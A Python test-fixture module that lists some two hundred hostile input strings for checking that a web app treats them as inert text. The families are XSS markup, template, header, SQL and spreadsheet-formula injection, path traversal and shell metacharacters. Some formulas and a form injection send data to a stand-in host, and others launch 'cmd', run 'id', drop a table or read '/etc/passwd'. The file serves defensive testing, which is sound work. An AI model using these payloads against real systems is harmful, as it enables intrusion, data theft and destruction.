"""Two hundred strings that nobody should be able to do harm with, wherever they are typed.

Each family speaks to one reader: a browser, a template, a mail server, a spreadsheet, a database …
What must hold is the same for all of them: it is text, shown as text, kept as text, or refused.
"""

ELSEWHERE = "elsewhere.invalid"  # a browser that ever asks for it was led astray
LONG = 20_000

MARKUP = (
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "</script><script src=//elsewhere.invalid/a.js></script>",
    "<ScRiPt/src=data:,alert(3)>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<img src=x onerror=alert(5)>",
    "<img src=https://elsewhere.invalid/pixel.gif>",
    "<svg/onload=alert(6)>",
    "<svg><style><img src=x onerror=alert(7)></style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(8)>",
    "<iframe srcdoc='<script>parent.alert(9)</script>'></iframe>",
    "<details open ontoggle=alert(10)>",
    "<video><source onerror=alert(11)></video>",
    "<link rel=stylesheet href=//elsewhere.invalid/a.css>",
    "<style>*{background:url(//elsewhere.invalid/b)}</style>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.invalid/'>",
    "<base href=//elsewhere.invalid/>",
    "</textarea></select></button></form><form action=//elsewhere.invalid><input name=password>",
    "<!--><img src=x onerror=alert(12)>--><![CDATA[<b>]]><?php echo 1 ?>",
    "&lt;script&gt;alert(13)&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp;",
)
ATTRIBUTES = (
    '" onmouseover="alert(20)',
    "' onfocus='alert(21)' autofocus='",
    '"><svg onload=alert(22)>',
    "'><svg onload=alert(23)>",
    "` onpointerenter=`alert(24)",
    '" style="position:fixed;inset:0;background:red',
    '" hx-get="https://elsewhere.invalid/" hx-trigger="load',
    '" data-hx-on:load="alert(25)',
    '" formaction="//elsewhere.invalid/" type="submit',
    '" srcset="//elsewhere.invalid/x 1x',
    '" id="csrfmiddlewaretoken" name="csrfmiddlewaretoken',
    "x onload=alert(26) y=",
    '\\" onclick=\\"alert(27)',
    "/onwheel=alert(28)//",
    'x" accesskey="x" onclick="alert(29)" contenteditable="',
    "=\"'><=`",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{{ settings.SECRET_KEY }}",
    "{{ link }}",
    "{{ organisation }}{{ candidate }}{{ job }}",
    "{{",
    "}} {{ link",
    "{% load static %}{% now 'Y' %}",
    "{% include 'portal/landing.html' %}",
    "{# a comment #}",
    "${7*7} ${{7*7}} #{7*7}",
    "<%= 7*7 %><% system('id') %>",
    "{{constructor.constructor('alert(30)')()}}",
    "[[7*7]] (( 7*7 )) @(7*7)",
    "<mj-include path='/etc/passwd' /><mj-raw><script>alert(31)</script></mj-raw>",
)
HEADERS = (
    "Ada\r\nBcc: everybody@elsewhere.invalid",
    "Ada\nSubject: another",
    "Ada\rX-Header: yes",
    "Ada\r\n\r\n<html>a body of its own",
    "Ada%0d%0aBcc:%20everybody@elsewhere.invalid",
    "Ada\r\n Bcc: folded@elsewhere.invalid",
    "=?utf-8?q?Ada=0d=0aBcc:_everybody=40elsewhere.invalid?=",
    "=?utf-8?b?QWRhDQpCY2M6IGV2ZXJ5Ym9keUBlbHNld2hlcmUuaW52YWxpZA==?=",
    "=?=?utf-8?q?nested?=?=",
    "Ada\x0bBcc: x@elsewhere.invalid",
    "Ada\x0cBcc: y@elsewhere.invalid",
    "Ada\x85Bcc: z@elsewhere.invalid",
    "Ada\u2028Bcc: p@elsewhere.invalid\u2029Bcc: q@elsewhere.invalid",
    "\u560a\u560dBcc: cut-to-eight-bits@elsewhere.invalid",
    'Ada" <everybody@elsewhere.invalid>, "',
    ".\r\nMAIL FROM:<x@elsewhere.invalid>\r\n.\r\n",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elsewhere.invalid/?"&A1,"look")',
    '=IMPORTXML(CONCAT("https://elsewhere.invalid/",A1),"//a")',
    '=WEBSERVICE("https://elsewhere.invalid/")',
    "\uff1d1+1",
    "\uff0b1+1",
    "'=1+1",
    "''+1",
    ';=1+1;"=1+1"',
)  # fmt: skip
CONTROLS = (
    "\0",
    "Ada\0Byron",
    "\0\0\0=1+1",
    "Ada\x01\x02\x03\x04\x05\x06Byron",
    "Ada\x07\x08\x08\x08Eve",
    "\x1b[31mred\x1b[0m\x1b]0;a title\x07",
    "\x1b[2J\x1b[H{}",
    "Ada\x7fByron",
    "Ada\x80\x81\x8d\x8f\x90\x9dByron",
    "\x9b31mred",
    "Ada\x1aByron",
    "\ufeffAda",
    "Ada\ufffe\uffff",
    "Ada\ue000\U000f0000",
    "\x1c\x1d\x1e\x1f",
    "a\tb\tc\t\t",
)
INVISIBLE = (
    "\u202eadA\u202c",
    "invoice\u202efdp.exe",
    "\u2066\u2067\u2068Ada",
    "\u2069\u2069\u202c\u202cAda",
    "\u200bAda\u200bByron\u200b",
    "\u200b",
    "\u2060\u2063\u180e",
    "\u3164",
    "\u00a0\u2003\u3000",
    "A\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 8,
    "Z" + "\u0336\u0489\u20dd" * 30,
    "\u05d0\u05d3\u05d4 (Ada) 123",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <Ada>",
    "\u0430d\u0430 B\u0443ron",
    "\u00adAda\u00adByron",
    "\U000e0041\U000e0064\U000e0061\U000e007f",
)
SURROGATES = (
    "\ud800",
    "\udfff\ud800",
    "Ada\udc00Byron",
    "\ud83d",
    "<\udc3cscript>",
    "\udcff\udcfe",
)
LENGTHS = (
    "a" * 101,
    "W" * 255,
    "\u00fc" * 300,
    "Donaudampfschifffahrtselektrizit\u00e4tenhauptbetriebswerkbauunterbeamtengesellschaft" * 3,
    "a " * 1000,
    "<b>" * 2000,
    "\U0001f469" * 500,
    "x" * LONG,
)
EMOJI = (
    "\U0001f600",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f1e9\U0001f1ea\U0001f1eb",
    "\U0001f44b\U0001f3fd\U0001f44b\U0001f3ff",
    "1\ufe0f\u20e3 \u2764\ufe0f \u00a9\ufe0e",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\u200d\U0001f525\u200d",
    "\ud83d\ude00",
)
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE interviews_candidate; --",
    '" OR ""="',
    "Robert'); SELECT pg_sleep(9); --",
    "1; COPY (SELECT 1) TO PROGRAM 'id'",
    "\\'; SELECT 1; --",
    "$$; SELECT 1; $$",
    "%' AND name LIKE '_%",
    "%%%___\\%\\_\\",
    "NULL",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\boot.ini",
    "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "file\0.csv",
    "CON",
    "-rf ~",
    "$(id)`id`|id;id&id",
)
SCHEMES = (
    "javascript:alert(40)",
    "JaVaScRiPt:alert(41)",
    "java\tscript:alert(42)",
    " javascript:alert(43)",
    "javascript&colon;alert(44)",
    "data:text/html,<script>alert(45)</script>",
    "vbscript:msgbox(46)",
    'https://elsewhere.invalid/?q="><script>alert(47)</script>',
    "//elsewhere.invalid/",
    "\\\\elsewhere.invalid\\share",
    "mailto:a@elsewhere.invalid?bcc=b@elsewhere.invalid",
    "blob:https://elsewhere.invalid/0",
)  # fmt: skip
TABLES = (
    'a,"b',
    '"a","b"',
    '""""',
    'a"\n"b',
    "a\r\nb,c\r\n",
    "a;b\tc|d",
    "\\N",
    "sep=;",
)
JSON = (
    '{"a":1}',
    '"],"admin":true,"x":["',
    "\\u0000",
    "\\ud800",
    "</script><!--",
    "\\\\\\\"'\\/\b",
    "__proto__",
    "[" * 200,
)
FORMATS = (
    "%s",
    "%(name)s %(organisation)s",
    "%(missing)s",
    "100%",
    "%n%n%n%x",
    "%%(link)s",
    "{0} {name} {0.__class__}",
    "{!r:>9999}",
    "%99999d",
    "\\g<0> \\1 $1 $&",
)
ADDRESSES = (
    '"Ada Byron"@example.com',
    "ada@b\u00fccher.example",
    "ada+<script>@example.com",
    "\u00e4da@example.com",
    "ada@example.com,eve@elsewhere.invalid",
    "ada@example.com\r\nRCPT TO:<eve@elsewhere.invalid>",
)
FAMILIES: dict[str, tuple[str, ...]] = {
    "markup": MARKUP,
    "attributes": ATTRIBUTES,
    "templates": TEMPLATES,
    "headers": HEADERS,
    "formulas": FORMULAS,
    "controls": CONTROLS,
    "invisible": INVISIBLE,
    "surrogates": SURROGATES,
    "lengths": LENGTHS,
    "emoji": EMOJI,
    "sql": SQL,
    "paths": PATHS,
    "schemes": SCHEMES,
    "tables": TABLES,
    "json": JSON,
    "formats": FORMATS,
    "addresses": ADDRESSES,
}
STRINGS = tuple(text for family in FAMILIES.values() for text in family)


PLAIN = ("Plain words", "Other plain words", "And some more")


def packed(limit: int) -> tuple[str, ...]:
    """The same strings, several to a text of this length; what can't be shared stands alone."""
    alone = [text for text in STRINGS if "\0" in text or len(text) > limit]
    rest = sorted((t for t in STRINGS if t not in alone), key=lambda text: not text.isprintable())
    packs = [""]
    for text in rest:
        longer = f"{packs[-1]} {text}" if packs[-1] else text
        if len(longer) <= limit and longer.isprintable() == (packs[-1] or text).isprintable():
            packs[-1] = longer
        else:
            packs.append(text)
    return (*packs, *alone)
